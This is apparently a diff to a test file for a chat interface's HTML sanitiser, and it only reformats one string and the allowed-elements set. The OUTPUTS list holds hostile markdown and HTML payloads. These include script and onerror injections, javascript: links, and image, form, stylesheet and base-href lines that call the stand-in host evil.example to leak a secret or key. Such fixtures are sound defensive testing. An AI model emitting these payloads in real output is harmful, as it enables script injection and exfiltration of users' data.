@@ -27,7 +27,7 @@ OUTPUTS = [
     "![picture](https://evil.example/?secret) ![two](data:image/svg+xml,<svg/onload=evil=1>)",
     "<a href='javascript:window.evil=1'>a</a> <javascript:window.evil=1> <base href=//evil.example>",
     "```html\n<script>window.evil=1</script>\n```",
-    "```\"><img/src=x/onerror=window.evil=1>\ncode\n```",
+    '```"><img/src=x/onerror=window.evil=1>\ncode\n```',
     "| <img src=x onerror=window.evil=1> | b |\n|---|---|\n| `<script>` | </td><script> |",
     "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
     "<form action=https://evil.example><input name=key></form><meta http-equiv=refresh content=0>",
@@ -38,7 +38,22 @@ OUTPUTS = [
 ]
 #: Elements that the page itself makes in a message.
 ALLOWED = {
-    *("ARTICLE", "H3", "H4", "H5", "H6", "P", "DIV", "SPAN", "BUTTON", "PRE", "CODE", "A", "BR", "BDI"),
+    *(
+        "ARTICLE",
+        "H3",
+        "H4",
+        "H5",
+        "H6",
+        "P",
+        "DIV",
+        "SPAN",
+        "BUTTON",
+        "PRE",
+        "CODE",
+        "A",
+        "BR",
+        "BDI",
+    ),
     *("UL", "OL", "LI", "BLOCKQUOTE", "HR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
     *("STRONG", "EM", "DEL", "DETAILS", "SUMMARY", "FORM", "LABEL", "TEXTAREA"),
 }
